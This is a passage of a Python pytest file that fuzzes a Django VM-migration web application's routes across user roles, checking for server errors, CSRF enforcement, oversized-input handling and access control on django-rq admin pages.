    rq_open: list[str] = dataclasses.field(default_factory=list)
    unreached: list[str] = dataclasses.field(default_factory=list)
    csrf_seen: list[int] = dataclasses.field(default_factory=list)
    seconds: collections.Counter = dataclasses.field(default_factory=collections.Counter)
    counts: collections.Counter = dataclasses.field(default_factory=collections.Counter)

    @property
    def requests(self) -> int:
        return sum(self.by_status.values())


def send(client: Client, path: str, payload: Payload, base_query: dict):
    query = payload.query
    if isinstance(query, dict):
        merged = {**base_query, **query} if payload.method == "POST" else (query or base_query)
        query_string = urlencode({k: v for k, v in merged.items()}, doseq=True)
    else:
        query_string = "&".join(filter(None, [urlencode(base_query), query]))
    url = f"{path}?{query_string}" if query_string else path
    headers = payload.headers
    if payload.method == "GET":
        return client.get(url, headers=headers)
    if payload.raw is not None:
        # generic(): post() would re-encode the bytes in the content type's charset first.
        return client.generic("POST", url, payload.raw, payload.content_type, headers=headers)
    data = {
        k: [v.make() if isinstance(v, Upload) else v for v in value]
        if isinstance(value, list)
        else value.make()
        if isinstance(value, Upload)
        else value
        for k, value in (payload.data or {}).items()
    }
    if payload.urlencoded and not any(isinstance(v, Upload) for v in (payload.data or {}).values()):
        body = urlencode(data, doseq=True)
        return client.post(url, data=body, content_type="application/x-www-form-urlencoded", headers=headers)
    return client.post(url, data=data, headers=headers)


def refused(response) -> bool:
    if response.status_code in (403, 405):
        return True
    return response.status_code == 302 and response["Location"].startswith(resolve_url(settings.LOGIN_URL))


class Fuzzer:
    def __init__(self, world: dict, tally: Tally):
        self.world = world
        self.tally = tally
        self.clients: dict[str, Client] = {}
        for role, key in ROLES:
            client = Client(raise_request_exception=False)
            if key:
                client.force_login(world["users"][key])
            self.clients[role] = client

    def relogin(self, role: str) -> None:
        """Login and logout change who the client is; put the role back."""
        key = dict(ROLES)[role]
        client = self.clients[role]
        if key:
            client.force_login(self.world["users"][key])
        else:
            client.logout()

    def request(self, role: str, variant: Variant, payload: Payload):
        client = self.clients[role]
        began = time.perf_counter()
        try:
            with transaction.atomic():
                response = send(client, variant.path, payload, variant.query)
                transaction.set_rollback(True)
        except Exception as exc:  # the test client itself gave up: count it as a 500
            response = None
            error = "".join(traceback.format_exception(exc))
        else:
            error = None
            if response.status_code >= 500:
                info = getattr(response, "exc_info", None)
                error = "".join(traceback.format_exception(*info)) if info else response.content[:500].decode("latin-1")
        status = response.status_code if response is not None else 500
        self.tally.by_status[status] += 1
        self.tally.seconds[variant.route.name] += time.perf_counter() - began
        self.tally.counts[variant.route.name] += 1
        if error is not None:
            self.tally.errors.append(
                {
                    "url": variant.path,
                    "variant": variant.label,
                    "query": variant.query,
                    "role": role,
                    "method": payload.method,
                    "payload": payload.summary(),
                    "status": status,
                    "exception": error,
                }
            )
        if variant.route.name in ("login", "logout"):
            self.relogin(role)
        return response

    def fuzz_variant(self, rng: random.Random, variant: Variant, uploads: list[Upload]) -> None:
        """Every role; the superuser gets the variant's whole tier of payloads, the other roles the
        view lets in a sample, the roles it turns away one or two."""
        spec = VIEW_FORMS.get(variant.route.name or "", {})
        post_form = bool(spec.get("post"))
        with passing_prechecks() if variant.prechecks_pass else contextlib.nullcontext():
            for method in ("POST",) if variant.prechecks_pass else ("GET", "POST"):
                payloads = payloads_for(rng, variant, method, self.world, uploads)
                if method == "POST" and variant.prechecks_pass:
                    payloads += self.start_payloads(rng, variant, payloads[0])
                self.fuzz_payloads(rng, variant, payloads, post_form)

    def start_payloads(self, rng: random.Random, variant: Variant, review: Payload) -> list[Payload]:
        """The start step with the signed review the page gave: valid, and changed after it."""
        response = self.request("superuser", variant, review)
        try:
            token = response.context["reviewed"]
        except (AttributeError, KeyError, TypeError):
            self.tally.unreached.append(f"the wizard's review step ({variant.path} {variant.label}): no signed review")
            return []
        base = {**review.data, "start": "1", "reviewed": token}
        changed = [n for n in MigrationForm.base_fields if n != "destination"]
        found = [
            Payload("POST", "start with the review's token", data=base),
            Payload("POST", "start, token tampered", data={**base, "reviewed": token[:-2] + "xx"}),
            Payload("POST", "start, token twice", data={**base, "reviewed": [token, "forged"]}),
            Payload("POST", "start, token and edit", data={**base, "edit": "1"}),
        ]
        for name in rng.sample(changed, 6):
            value = rng.choice(pool_for(MigrationForm.base_fields[name]))
            found.append(Payload("POST", f"start, {name}={value!r:.30} changed", data={**base, name: value}))
        started = self.request("superuser", variant, found[0])
        if started is None or started.status_code != 302 or "/migrations/" not in started.get("Location", ""):
            status = getattr(started, "status_code", None)
            self.tally.unreached.append(f"the wizard's start step ({variant.path}): answered {status}, no migration")
        return found

    def fuzz_payloads(self, rng: random.Random, variant: Variant, payloads: list[Payload], post_form: bool) -> None:
        probe, rest = payloads[0], payloads[1:]
        for role, _key in ROLES:
            response = self.request(role, variant, probe)
            count = {"FULL": len(rest), "SOME": SOME, "FEW": FEW}[variant.tier]
            if response is not None and refused(response):
                count = REFUSED[variant.tier]
            elif role != "superuser":
                # The superuser holds every role and reaches every branch: the others get a sample.
                count = min(count, SOME)
            chosen = rest if count >= len(rest) else rng.sample(rest, count)
            for payload in chosen:
                answer = self.request(role, variant, payload)
                if (
                    payload.oversized
                    and post_form
                    and answer is not None
                    and not refused(answer)
                    and not 400 <= answer.status_code < 500
                ):
                    self.tally.oversize_accepted.append(
                        f"{role} POST {variant.path} {payload.label}: {answer.status_code}"
                    )


@contextlib.contextmanager
def quiet_logging():
    """Thousands of 4xx would each log a warning; 500s are collected with their traceback instead."""
    logging.disable(logging.CRITICAL)
    try:
        yield
    finally:
        logging.disable(logging.NOTSET)


@contextlib.contextmanager
def passing_prechecks():
    report = Report()
    report.add("distinct hosts", PASS, "source and destination are different hosts (the fuzz says so)")
    original = migrator_forms.run_prechecks
    migrator_forms.run_prechecks = lambda *args, **kwargs: report
    try:
        yield
    finally:
        migrator_forms.run_prechecks = original


def test_no_hostile_input_gets_a_500(world, test_driver_only, rq_cleanup, capsys, monkeypatch):
    # The API's rate limits would answer most of the fuzz with 429 before any form sees it.
    for throttle in (throttling.ReadRate, throttling.WriteRate):
        monkeypatch.setattr(throttle, "THROTTLE_RATES", {"read": "1000000/min", "write": "1000000/min"})
    started = time.monotonic()
    rng = random.Random(SEED)
    tally = Tally()
    routes = list(walk(get_resolver().url_patterns))
    ours = [r for r in routes if not r.route.startswith(SKIPPED_PREFIXES)]
    rq_routes = [r for r in routes if r.route.startswith(RQ_PREFIX)]
    unreached = [f"{r.route} (a regex pattern)" for r in ours if not reachable(r)]
    ours = [r for r in ours if reachable(r)]
    assert {r.name for r in ours} >= set(VIEW_FORMS), "a view the fuzz knows the forms of is gone"
    generic_only = sorted(r.name or r.route for r in ours if r.name not in VIEW_FORMS)
    uploads = upload_pool(rng)
    fuzzer = Fuzzer(world, tally)

    with quiet_logging():
        for route in ours:
            for variant in variants_for(route, world):
                fuzzer.fuzz_variant(rng, variant, uploads)

        # CSRF enforced: a POST without a token, or with a forged one, is a 403 everywhere, never a 500.
        forged = ["", "\x00", "A" * 64, "%ED%A0%80" * 8, "A" * 10_000, "Zm9yZ2Vk" * 8]
        for role, key in ROLES:
            client = Client(enforce_csrf_checks=True, raise_request_exception=False)
            if key:
                client.force_login(world["users"][key])
            for route in ours:
                for index, variant in enumerate(variants_for(route, world)[:2]):
                    data = {k: v for k, v in baseline(variant, world).items() if not isinstance(v, Upload)}
                    token = forged[(index + len(tally.csrf_seen)) % len(forged)]
                    for label, body, cookie in [
                        ("no CSRF token", data, None),
                        (f"forged CSRF token {token[:12]!r}", {**data, "csrfmiddlewaretoken": token}, "B" * 32),
                    ]:
                        if cookie:
                            client.cookies[settings.CSRF_COOKIE_NAME] = cookie
                        else:
                            client.cookies.pop(settings.CSRF_COOKIE_NAME, None)
                        with transaction.atomic():
                            response = client.post(variant.path + "?" + urlencode(variant.query), body)
                            transaction.set_rollback(True)
                        tally.by_status[response.status_code] += 1
                        tally.csrf_seen.append(response.status_code)
                        # The API: 401 for nobody (nothing is written), 405 where nothing is written at all.
                        api = variant.path.startswith(("/api/", "/metrics"))
                        if response.status_code != 403 and not (api and response.status_code in (401, 405)):
                            tally.csrf_not_403.append(f"{role} POST {variant.path} {label}: {response.status_code}")
                        if response.status_code >= 500:
                            info = response.exc_info
                            tally.errors.append(
                                {
                                    "url": variant.path,
                                    "variant": "csrf",
                                    "query": variant.query,
                                    "role": role,
                                    "method": "POST",
                                    "payload": label,
                                    "status": response.status_code,
                                    "exception": "".join(traceback.format_exception(*info)) if info else "",
                                }
                            )

        # django-rq is third-party: not fuzzed, but closed to everyone but superusers.
        for role, _key in ROLES[:-1]:
            client = fuzzer.clients[role]
            for route in rq_routes:
                if isinstance(route.pattern.pattern, RegexPattern):
                    path = "/" + regex_sample(route.route)
                else:
                    path = "/" + CONVERTER.sub(lambda m: "0" if m["converter"] == "int" else "fuzz", route.route)
                for method in ("get", "post"):
                    with transaction.atomic():
                        response = getattr(client, method)(path)
                        transaction.set_rollback(True)
                    tally.by_status[response.status_code] += 1
                    ok = response.status_code == 403 or (role == "anonymous" and refused(response))
                    if not ok:
                        tally.rq_open.append(f"{role} {method.upper()} {path}: {response.status_code}")

    # The test driver's guest must still run for the tests after this one (a payload could stop it).
    vm = world["vm"]
    state_after = gateway.vm_state("test:///default", vm.uuid)
    if state_after != "running":
        gateway.vm_lifecycle("test:///default", vm.uuid, "start")

    elapsed = time.monotonic() - started
    by_status = dict(sorted(tally.by_status.items()))
    line = f"fuzz requests={tally.requests} by_status={by_status} errors_500={len(tally.errors)} seconds={elapsed:.1f}"
    report = [line]
    if generic_only:
        report.append("generic payloads only (no form known): " + ", ".join(generic_only))
    unreached += tally.unreached
    if unreached:
        report.append("not reached: " + ", ".join(unreached))
    if state_after != "running":
        report.append(f"the test driver's guest was left {state_after} by a payload (started again)")
    if test_driver_only:
        report.append(f"libvirt opens refused (not test:///default): {len(test_driver_only)}")
    slowest = sorted(tally.seconds.items(), key=lambda item: -item[1])[:8]
    report.append("slowest: " + ", ".join(f"{name} {sec:.1f}s/{tally.counts[name]}" for name, sec in slowest))
    report += [f"oversized accepted: {o}" for o in tally.oversize_accepted[:20]]
    report += [f"CSRF not 403: {c}" for c in tally.csrf_not_403[:20]]
    report += [f"django-rq open: {r}" for r in tally.rq_open[:20]]
    distinct = _distinct_errors(tally.errors)
    for signature, (count, first, seen) in distinct.items():
        report.append(
            f"500 x{count} {signature}\n  first: {first['role']} {first['method']} {first['url']} "
            f"[{first['variant']}] {first['payload']}\n  seen: {'; '.join(sorted(seen)[:12])}\n"
            f"{_frames(first['exception'])}"
        )
    out = Path(settings.BASE_DIR) / "var"
    out.mkdir(exist_ok=True)
    (out / "fuzz-summary.txt").write_text("\n".join(report) + "\n", encoding="utf-8")
    with capsys.disabled():
        print("\n" + "\n".join(report))

    errors_500 = len(tally.errors)
    assert errors_500 == 0, f"{len(distinct)} distinct 500s: see var/fuzz-summary.txt"
    assert not tally.oversize_accepted, tally.oversize_accepted[:10]
    assert not tally.csrf_not_403, tally.csrf_not_403[:10]
    assert not tally.rq_open, tally.rq_open[:10]


def _distinct_errors(errors: list[dict]) -> dict[str, tuple[int, dict, set]]:
    """500s grouped by exception and the innermost frame of the project (or, when the project has
    none, of the third-party app below Django), with where each was seen."""
    grouped: dict[str, tuple[int, dict, set]] = {}
    for error in errors:
        lines = error["exception"].strip().splitlines()
        frames = [ln.strip() for ln in lines if ln.strip().startswith("File ")]
        ours = [ln for ln in frames if "/site-packages/" not in ln] or [
            ln for ln in frames if not re.search(r"/site-packages/(django|psycopg\w*)/", ln)
        ]
        where = ours[-1] if ours else "?"
        signature = f"{lines[-1] if lines else '?'} at {where}"
        count, first, seen = grouped.get(signature, (0, error, set()))
        seen.add(f"{error['method']} {error['url']} {error['payload'].split(' data=')[0].split(' query=')[0]}")
        grouped[signature] = (count + 1, first, seen)
    return grouped


def _frames(text: str, keep: int = 30) -> str:
    """The traceback's frames, one line each, and the exception."""
    lines = text.strip().splitlines()
    frames = [ln.strip() for ln in lines if ln.strip().startswith("File ")][-keep:]
    tail = [ln for ln in lines[-3:] if not ln.strip().startswith(("File ", "^"))][-1:]
    return "\n".join("    " + ln for ln in frames + tail)
